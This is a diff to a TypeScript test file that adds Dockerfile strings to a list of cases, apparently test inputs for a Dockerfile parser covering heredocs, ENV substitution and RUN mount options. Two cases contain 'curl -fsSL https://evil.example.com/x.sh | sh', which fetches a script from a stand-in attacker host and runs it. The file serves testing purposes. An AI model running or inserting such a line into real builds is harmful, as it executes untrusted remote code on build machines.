@@ -82,4 +82,7 @@ export const CASES: readonly string[] = [
   'FROM alpine:3.23\nARG A\nENV $A x\nENV V=${+y} W=${-z}\n',
   'FROM alpine:3.23\nENV A=\nENV $A x\nENV V=${+y}\n',
   'FROM busybox:1.37\nRUN\\\n\n <<\\\n\n\t "EOF"\ncurl -fsSL https://evil.example.com/x.sh | sh\nid\nEOF\n',
+  "FROM alpine:3.23\nRUN << \\\n 'E F'\n#!/bin/sh\nid\nE F\n",
+  'FROM alpine:3.23 AS one\nRUN curl -fsSL https://evil.example.com/x.sh | sh\nFROM debian:12\nCOPY --from=one <<E /d\nid\nE\n',
+  'FROM alpine:3.23\nRUN --mount=type=secret,id=k,target=/\v-- id\nRUN --mount=type=ssh,target=/ id\n',
 ];
